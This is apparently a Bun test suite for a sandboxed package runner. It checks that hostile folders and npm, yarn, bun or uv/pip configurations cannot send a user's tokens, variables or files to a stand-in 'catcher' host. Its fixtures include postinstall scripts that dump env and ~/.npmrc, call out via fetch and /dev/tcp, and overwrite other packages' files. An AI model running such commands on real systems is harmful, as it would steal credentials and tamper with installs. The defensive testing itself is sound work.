import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { findUv } from '../find-uv.ts';
import { CASES, standsForItsSandbox } from '../runner.ts';
import { type AttackedUser, openAttackedUser } from './attacked-user.ts';
import { IDLE, openRegistry, type Registry } from './npm-registry.ts';

const uv = await findUv();
const TOKEN = 'a-token-of-the-user';
const VARIABLE = 'a-variable-of-the-user';
const MANIFEST = JSON.stringify({ name: 'n', main: 'main.mjs', dependencies: { good: '1.0.0' } });

/**
 * Attack: a folder sends what the user's environment or configuration holds to a host of its choice. `CATCHER` stands for that
 * host, which listens on this machine: it must not even be asked.
 */
describe.each(CASES)('a folder sends secrets away, $sandbox, user $user', ({ sandbox, user }) => {
  let attacked: AttackedUser;
  let registry: Registry;
  let catcher: Registry;
  const userSettings = (text: string) => writeFile(join(attacked.world.home, '.npmrc'), text);
  beforeAll(async () => {
    attacked = await openAttackedUser(sandbox, user);
    registry = openRegistry();
    catcher = openRegistry();
    await registry.publish('good', '1.0.0', {});
    await registry.publish('@corp/good', '1.0.0', {});
    await userSettings(`registry=${registry.url}\n//${registry.host}/:_authToken=\${USER_TOKEN}\n`);
  });
  afterAll(async () => {
    await attacked[Symbol.asyncDispose]();
    await Promise.all([registry, catcher].map((each) => each[Symbol.asyncDispose]()));
  });
  afterEach(() => expect(catcher.requests).toEqual([]));

  const env = { ANY: VARIABLE, USER_TOKEN: TOKEN, NPM_TOKEN: VARIABLE };
  let folders = 0;
  const run = async (
    files: Readonly<Record<string, string>>,
    more: Readonly<Record<string, string>> = {},
  ) => {
    const name = `f${++folders}`;
    const here = (text: string) => text.replaceAll('CATCHER', catcher.url).replaceAll('HOST', catcher.host);
    const written = Object.fromEntries(Object.entries(files).map(([file, text]) => [file, here(text)]));
    await attacked.folder(name, { 'package.json': MANIFEST, 'main.mjs': IDLE, ...written });
    return await attacked.run(`./${name}`, [], { ...env, ...more });
  };

  test('the login of the user goes to the host it is for', async () => {
    const before = registry.requests.length;
    await registry.publish('fresh', '1.0.0', {});
    await run({ 'package.json': MANIFEST.replace('good', 'fresh') });
    const asked = registry.requests.slice(before);
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter((request) => !request.endsWith(`Bearer ${TOKEN}`))).toEqual([]);
  });

  test('a login without a host is that of the user’s registry, whatever the folder says', async () => {
    const other = openRegistry();
    try {
      await other.publish('@corp/good', '1.0.0', {});
      await userSettings(`_authToken=${TOKEN}\nregistry=${registry.url}\n@mine:registry=${other.url}\n`);
      const { exitCode } = await run({
        '.npmrc': `@corp:registry=${other.url}\n`,
        'package.json': JSON.stringify({
          name: 'n',
          main: 'main.mjs',
          dependencies: { '@corp/good': '1.0.0' },
        }),
      });
      expect(exitCode).toBe(0);
      expect(other.requests.length).toBeGreaterThan(0);
      expect(other.requests.filter((request) => request.includes(TOKEN))).toEqual([]);
    } finally {
      await userSettings(`registry=${registry.url}\n//${registry.host}/:_authToken=\${USER_TOKEN}\n`);
      await other[Symbol.asyncDispose]();
    }
  });

  test('an install script finds neither variables, nor logins, nor files, nor another host', async () => {
    await registry.publish('nosy', '1.0.0', {
      bin: 'main.js',
      scripts: {
        postinstall: [
          'env > seen-env; cat ~/.npmrc /proc/*/environ > seen-login 2>/dev/null',
          `cat ${attacked.secretFile} > seen-file 2>/dev/null`,
          `ls -a ${attacked.world.home} ${attacked.world.folder}/cache > seen-names 2>/dev/null`,
          `"$npm_execpath" -e 'fetch("${catcher.url}").catch(() => 1)' 2>/dev/null`,
          `bash -c 'echo > /dev/tcp/127.0.0.1/${new URL(catcher.url).port}' 2>/dev/null`,
          'true',
        ].join('; '),
      },
    });
    const { exitCode, said } = await attacked.run('npx://nosy', ['--allow-install-scripts'], env);
    expect({ exitCode, said }).toMatchObject({ exitCode: 0 });
    for (const secret of [TOKEN, VARIABLE, attacked.secret]) {
      const found = await attacked.installedFilesWith(secret);
      expect(found).toEqual([]);
    }
    const written = await attacked.installedFilesWith('npm_lifecycle_event=postinstall');
    expect(written.some((file) => file.endsWith('/seen-env'))).toBe(true);
  });

  test('an install script changes neither the cache nor what another package is installed from', async () => {
    await registry.publish('shared', '1.0.0', {}, { 'main.js': 'untouched' });
    const spoil =
      'find / -path /proc -prune -o -path "*shared*" -name main.js -type f -print 2>/dev/null | while read f; do echo spoiled > "$f"; done; true';
    await registry.publish('spoiler', '1.0.0', {
      bin: 'main.js',
      dependencies: { shared: '1.0.0' },
      scripts: { postinstall: spoil },
    });
    await registry.publish('victim', '1.0.0', { bin: 'main.js', dependencies: { shared: '1.0.0' } });
    expect(await attacked.run('npx://spoiler', ['--allow-install-scripts'], env)).toMatchObject({
      exitCode: 0,
    });
    expect(await attacked.run('npx://victim', [], env)).toMatchObject({ exitCode: 0 });
    const spoiled = await attacked.installedFilesWith('spoiled');
    const own = spoiled.filter((file) => file.includes('/node_modules/shared/'));
    expect(own.length).toBe(1);
    expect(spoiled.filter((file) => !own.includes(file) && !file.includes('/spoiler'))).toEqual([]);
    const whole = await attacked.installedFilesWith('untouched');
    expect(
      whole.some((file) => file.includes('/packages/npm/') && file.includes('/node_modules/shared/')),
    ).toBe(true);
  });

  // Which settings of a folder reach an installer is decided before there is a sandbox: one user for each will do.
  if (!standsForItsSandbox({ sandbox, user })) return;

  test.each([
    [
      'a variable as a login',
      { '.npmrc': 'registry=CATCHER\n//HOST/:_authToken=${ANY}\n' },
      ['.npmrc:1', '.npmrc:2'],
    ],
    [
      'a variable in the address',
      { '.npmrc': '# hello\nregistry=https://public.example/${ANY}/\n' },
      ['.npmrc:2'],
    ],
    [
      'a registry for one scope',
      {
        '.npmrc': '@corp:registry=CATCHER\n',
        'package.json': JSON.stringify({
          name: 'n',
          main: 'main.mjs',
          dependencies: { '@corp/good': '1.0.0' },
        }),
      },
      ['.npmrc:1'],
    ],
    ['a proxy', { '.npmrc': 'proxy=CATCHER\nhttps-proxy=CATCHER\n' }, ['.npmrc:1', '.npmrc:2']],
    ['a registry without a name', { '.npmrc': 'registry=https://10.0.0.1/\n' }, ['.npmrc:1']],
    [
      'settings of yarn',
      { '.yarnrc.yml': 'npmRegistryServer: "CATCHER"\nnpmAuthToken: "${ANY}"\n' },
      ['.yarnrc.yml:1', '.yarnrc.yml:2'],
    ],
    [
      'settings of bun',
      { 'bunfig.toml': '[install]\nregistry = { url = "CATCHER", token = "$ANY" }\n' },
      ['bunfig.toml:2'],
    ],
  ])(
    '%s: left out, told with its line, and installed from the registry of the user',
    async (_, files, lines) => {
      const { exitCode, said } = await run(files);
      expect({ exitCode, said }).toMatchObject({
        exitCode: 0,
        said: expect.stringContaining('Successfully installed'),
      });
      for (const line of lines) expect(said).toContain(`"at":"${line}"`);
      expect(said).not.toContain(VARIABLE);
    },
  );

  test.each([
    ['NPM_CONFIG_REGISTRY=CATCHER\nNPM_CONFIG_TOKEN=$ANY\nBUN_CONFIG_REGISTRY=CATCHER\n', '.env'],
    ['HTTP_PROXY=CATCHER\nHTTPS_PROXY=CATCHER\nhttp_proxy=CATCHER\n', '.env.production'],
    ['BUN_CONFIG_REGISTRY=CATCHER\n', '.env.local'],
  ])('%p in %s: not read by the installer', async (text, file) => {
    const { exitCode } = await run({ '.dockerignore': '!.env*\n!.env\n', [file]: text });
    expect(exitCode).toBe(0);
  });

  test.skipIf(uv === undefined).each([
    [
      'an index on this machine',
      { 'uv.toml': '[[index]]\nurl = "CATCHERsimple"\ndefault = true\n' },
      'uv.toml:2',
    ],
    [
      'an index in the project',
      {
        'pyproject.toml': '[project]\nname = "p"\nversion = "1"\n[[tool.uv.index]]\nurl = "CATCHERsimple"\n',
      },
      'pyproject.toml:5',
    ],
    ['links to look through', { 'uv.toml': 'find-links = ["CATCHER"]\n' }, 'uv.toml:1'],
    ['where Pythons come from', { 'uv.toml': 'python-install-mirror = "CATCHER"\n' }, 'uv.toml:1'],
    ['settings of pip', { 'pip.conf': '[global]\nindex-url = CATCHERsimple\n' }, 'pip.conf:2'],
  ])('Python, %s: left out, and told with its line', async (label, files, line) => {
    const name = `py-${label.replace(/[^a-z]/gi, '-')}`;
    const text = (content: string) => content.replaceAll('CATCHER', catcher.url);
    await attacked.folder(name, {
      'pyproject.toml': '[project]\nname = "p"\nversion = "1"\n',
      'server.py': '',
      ...Object.fromEntries(Object.entries(files).map(([file, content]) => [file, text(content)])),
    });
    const { exitCode, said } = await attacked.run(`./${name}`, [], env);
    expect({ exitCode, said }).toMatchObject({
      exitCode: 0,
      said: expect.stringContaining(`"at":"${line}"`),
    });
  });

  test.skipIf(uv === undefined)(
    'Python: a login of the user that belongs to a name is not given to an index of that name',
    async () => {
      await attacked.folder('py-name', {
        'pyproject.toml':
          '[project]\nname = "p"\nversion = "1"\ndependencies = ["good"]\n[[tool.uv.index]]\nname = "corp"\nurl = "https://index.invalid/simple"\nexplicit = true\n[tool.uv.sources]\ngood = { index = "corp" }\n',
        'server.py': '',
      });
      const login = { UV_INDEX_CORP_USERNAME: 'user', UV_INDEX_CORP_PASSWORD: VARIABLE };
      const { exitCode, said } = await attacked.run('./py-name', [], { ...env, ...login });
      expect(exitCode).toBe(1);
      expect(said).not.toContain(VARIABLE);
    },
  );
});
